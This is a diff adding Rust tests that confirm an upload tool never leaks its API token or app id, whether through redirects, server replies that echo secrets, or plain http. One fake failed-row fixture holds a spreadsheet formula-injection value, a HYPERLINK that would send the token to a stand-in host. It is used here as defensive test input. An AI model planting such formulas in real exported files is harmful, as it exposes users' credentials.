@@ -1,0 +1,213 @@
+//! Credentials never leak: a redirect to another host, a server that echoes the token and the
+//! app id in every field it writes, plain http to another machine. Every output is searched.
+
+use super::*;
+
+/// Every text `upload` produced: stdout, stderr, and every file of the folder.
+fn everything(dir: &tempfile::TempDir, output: &Output) -> String {
+    let mut all = text(output);
+    for entry in fs::read_dir(dir.path().join("out")).unwrap() {
+        let path = entry.unwrap().path();
+        if path.is_file() {
+            all.push_str(&format!("\n--- {}\n", path.display()));
+            all.push_str(&String::from_utf8_lossy(&fs::read(&path).unwrap()));
+        }
+    }
+    all
+}
+
+fn assert_no_secret(dir: &tempfile::TempDir, output: &Output, scenario: &str) {
+    let all = everything(dir, output).to_ascii_lowercase();
+    for secret in [TOKEN, APP_ID] {
+        assert!(
+            !all.contains(&secret.to_ascii_lowercase()),
+            "{scenario}: {secret} leaked:\n{}",
+            everything(dir, output)
+        );
+    }
+}
+
+#[test]
+fn a_redirect_is_never_followed_and_the_token_stays_home() {
+    let other = Fake::start();
+    for (scenario, on_post) in [("POST", true), ("poll", false)] {
+        let dir = prepared();
+        let fake = Fake::start();
+        let location = format!("{}/v1/elsewhere?key=query-secret-1", other.url);
+        let reply = Reply::with_header(302, "Location", &location, "");
+        if on_post {
+            fake.behaviour().posts.push_back(reply);
+        } else {
+            fake.behaviour().polls.push_back(reply);
+        }
+        let output = upload(&dir, &fake);
+        assert_eq!(
+            output.status.code(),
+            Some(2),
+            "{scenario}: {}",
+            text(&output)
+        );
+        let err = stderr(&output);
+        assert!(
+            err.contains(&format!("{}/v1/elsewhere", other.url)),
+            "{scenario}: {err}"
+        );
+        assert!(
+            !err.contains("query-secret-1"),
+            "{scenario}: the query is not shown: {err}"
+        );
+        assert!(
+            err.contains("redirects are never followed"),
+            "{scenario}: {err}"
+        );
+        assert!(other.log().is_empty(), "{scenario}: {:?}", other.log());
+        if on_post {
+            assert_eq!(state(&dir)["batches"][0]["status"], "unconfirmed");
+        }
+        assert_no_secret(&dir, &output, scenario);
+    }
+}
+
+/// Sets a fake up for one scenario.
+type Setup<'a> = Box<dyn Fn(&Fake) + 'a>;
+
+#[test]
+fn the_credentials_echoed_in_any_answer_reach_no_output() {
+    let echo = format!(
+        " (token {TOKEN}, app {APP_ID}, upper {})",
+        TOKEN.to_uppercase()
+    );
+    let body = json!({"code": 0, "message": format!("echo{echo}"), "details": echo}).to_string();
+    let mut scenarios: Vec<(String, Setup)> = Vec::new();
+    for status in [401, 403, 404, 400, 413, 422, 500, 503] {
+        let body = body.clone();
+        scenarios.push((
+            format!("POST answered {status}"),
+            Box::new(move |f: &Fake| {
+                f.behaviour()
+                    .posts
+                    .push_back(Reply::status(status, body.clone()))
+            }),
+        ));
+    }
+    let named: Vec<(&str, Setup)> = vec![
+        (
+            "garbled 200",
+            Box::new(|f: &Fake| {
+                f.behaviour()
+                    .posts
+                    .push_back(Reply::status(200, format!("not json{echo}")))
+            }),
+        ),
+        (
+            "id echoed",
+            Box::new(|f: &Fake| {
+                f.behaviour().posts.push_back(Reply::status(
+                    202,
+                    json!({"async_action_id": TOKEN}).to_string(),
+                ))
+            }),
+        ),
+        (
+            "poll 500s",
+            Box::new(|f: &Fake| {
+                for _ in 0..10 {
+                    f.behaviour()
+                        .polls
+                        .push_back(Reply::status(500, body.clone()));
+                }
+            }),
+        ),
+        (
+            "status echoed",
+            Box::new(|f: &Fake| {
+                f.behaviour().polls.push_back(Reply::status(
+                    200,
+                    json!({"status": TOKEN, "progress": 1}).to_string(),
+                ))
+            }),
+        ),
+        (
+            "message, reasons, codes and listed jobs",
+            Box::new(|f: &Fake| {
+                let mut b = f.behaviour();
+                b.echo = Some(echo.clone());
+                b.failed_rows.insert(
+                "part-00001.csv".into(),
+                vec![
+                    json!({"code": "GC-0001", "row": 1, "reason": format!("bad{echo}")}),
+                    json!({"code": TOKEN, "reason": format!("=HYPERLINK(\"http://x/?{TOKEN}\")")}),
+                ],
+            );
+                b.failing.insert("part-00002.csv".into());
+                b.posts.push_back(Reply::Normal);
+                b.posts.push_back(Reply::Normal);
+                b.posts.push_back(Reply::ActThenDrop);
+            }),
+        ),
+        (
+            "failed result as text",
+            Box::new(|f: &Fake| {
+                let mut b = f.behaviour();
+                b.failing.insert("part-00001.csv".into());
+                b.results
+                    .insert("part-00001.csv".into(), json!(format!("broken{echo}")));
+            }),
+        ),
+    ];
+    scenarios.extend(
+        named
+            .into_iter()
+            .map(|(name, setup)| (name.to_owned(), setup)),
+    );
+    for (scenario, setup) in scenarios {
+        let scenario = scenario.as_str();
+        let dir = prepared();
+        let fake = Fake::start();
+        setup(&fake);
+        let output = upload_command(&dir, &fake, TOKEN)
+            .args(["--json", "--retries", "1"])
+            .output()
+            .unwrap();
+        assert_no_secret(&dir, &output, scenario);
+        assert!(
+            everything(&dir, &output).contains("[redacted]"),
+            "{scenario}: the echo was seen and redacted:\n{}",
+            everything(&dir, &output)
+        );
+    }
+}
+
+#[test]
+fn plain_http_to_another_machine_is_refused_unless_allowed_with_a_warning() {
+    let dir = prepared();
+    let output = base_command(&dir, "http://api.voucherify.io", TOKEN)
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(2), "{}", text(&output));
+    assert!(stderr(&output).contains("unencrypted"), "{}", text(&output));
+    assert!(
+        stderr(&output).contains("--allow-insecure-http"),
+        "{}",
+        text(&output)
+    );
+    assert!(!out(&dir).join("upload.json").exists(), "nothing was done");
+
+    let allowed = Command::new(BIN)
+        .args(["upload", &out(&dir).display().to_string()])
+        .args([
+            "--campaign",
+            CAMPAIGN,
+            "--api-url",
+            "http://api.voucherify.io",
+        ])
+        .args(["--allow-insecure-http", "--dry-run"])
+        .output()
+        .unwrap();
+    assert_eq!(allowed.status.code(), Some(0), "{}", text(&allowed));
+    assert!(
+        stderr(&allowed).starts_with("warning: --allow-insecure-http"),
+        "{}",
+        text(&allowed)
+    );
+}
